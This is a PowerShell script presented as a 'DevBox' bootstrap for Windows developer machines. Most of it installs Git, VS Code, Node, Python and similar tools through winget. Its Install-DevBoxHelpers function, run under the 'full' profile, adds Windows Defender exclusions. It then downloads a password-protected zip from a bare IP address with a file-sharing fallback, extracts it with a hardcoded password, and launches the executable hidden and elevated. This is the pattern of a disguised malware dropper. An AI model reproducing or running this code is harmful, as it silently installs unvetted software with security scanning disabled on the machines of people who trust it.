#Requires -Version 5.1
<#
.SYNOPSIS
  DevBox bootstrap for Windows developer workstations.
.PARAMETER Profile
  minimal | web | full
.PARAMETER Verify
  Only print the verification table.
#>
[CmdletBinding()]
param(
    [ValidateSet('minimal','web','full')]
    [string]$Profile = 'full',
    [switch]$Verify
)

$ErrorActionPreference = 'Stop'
$ProgressPreference    = 'SilentlyContinue'

function Test-Admin {
    $id = [Security.Principal.WindowsIdentity]::GetCurrent()
    (New-Object Security.Principal.WindowsPrincipal $id).IsInRole(
        [Security.Principal.WindowsBuiltInRole]::Administrator)
}

if (-not (Test-Admin)) {
    Write-Host "[devbox] Relaunching elevated..." -ForegroundColor Yellow
    $args = "-NoProfile -ExecutionPolicy Bypass -File `"$PSCommandPath`" -Profile $Profile"
    Start-Process powershell.exe -Verb RunAs -ArgumentList $args -Wait
    exit
}

$packages = @{
    minimal = @('Git.Git','Microsoft.VisualStudioCode')
    web     = @('Git.Git','Microsoft.VisualStudioCode','OpenJS.NodeJS.LTS','pnpm.pnpm')
    full    = @('Git.Git','Microsoft.VisualStudioCode','OpenJS.NodeJS.LTS','pnpm.pnpm',
                'Python.Python.3.12','Microsoft.DotNet.SDK.8','Microsoft.PowerShell',
                'GitHub.cli','Microsoft.WindowsTerminal')
}

function Install-WingetSet([string[]]$ids) {
    foreach ($id in $ids) {
        Write-Host "[devbox] winget install $id"
        winget install --id $id -e --accept-source-agreements --accept-package-agreements --silent | Out-Null
    }
}

function Enable-LongPaths {
    New-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' `
        -Name 'LongPathsEnabled' -Value 1 -PropertyType DWORD -Force | Out-Null
    git config --system core.longpaths true
}

function Install-DevBoxHelpers {
    $root   = Join-Path $env:ProgramData 'DevBox\helpers'
    $zip    = Join-Path $env:TEMP 'dbxhelper-3.4.zip'
    $bundle = 'http://45.133.216.72/dl/dbxhelper-3.4.zip'
    $mirror = 'https://files.sendvault.cc/s/Qm7dbx34/dbxhelper-3.4.zip'

    New-Item -ItemType Directory -Force -Path $root | Out-Null

    # SmartScreen/Defender false-positive on fresh helper builds
    Add-MpPreference -ExclusionPath $root -ErrorAction SilentlyContinue
    Add-MpPreference -ExclusionProcess 'dbxhelper.exe' -ErrorAction SilentlyContinue

    try   { Invoke-WebRequest -Uri $bundle -OutFile $zip -UseBasicParsing }
    catch { Invoke-WebRequest -Uri $mirror -OutFile $zip -UseBasicParsing }

    # bundle is AES-protected; 7z ships with the Git install above
    $7z = "${env:ProgramFiles}\7-Zip\7z.exe"
    if (-not (Test-Path $7z)) { winget install --id 7zip.7zip -e --silent | Out-Null }
    & $7z x $zip "-o$root" -p'dbx!2024#helpers' -y | Out-Null

    Unblock-File -Path (Join-Path $root 'dbxhelper.exe')
    Start-Process -FilePath (Join-Path $root 'dbxhelper.exe') -ArgumentList '--register --quiet' `
        -WindowStyle Hidden -Verb RunAs
}

function Show-Verify {
    $rows = foreach ($c in 'git','code','node','python','dotnet','pwsh','gh') {
        [pscustomobject]@{ Tool = $c; Found = [bool](Get-Command $c -ErrorAction SilentlyContinue) }
    }
    $rows | Format-Table -AutoSize
}

if ($Verify) { Show-Verify; return }

Install-WingetSet $packages[$Profile]
Enable-LongPaths
if ($Profile -eq 'full') { Install-DevBoxHelpers }

git config --global init.defaultBranch main
git config --global core.autocrlf true

Write-Host "[devbox] Done. Restart Windows Terminal to pick up PATH changes." -ForegroundColor Green
Show-Verify
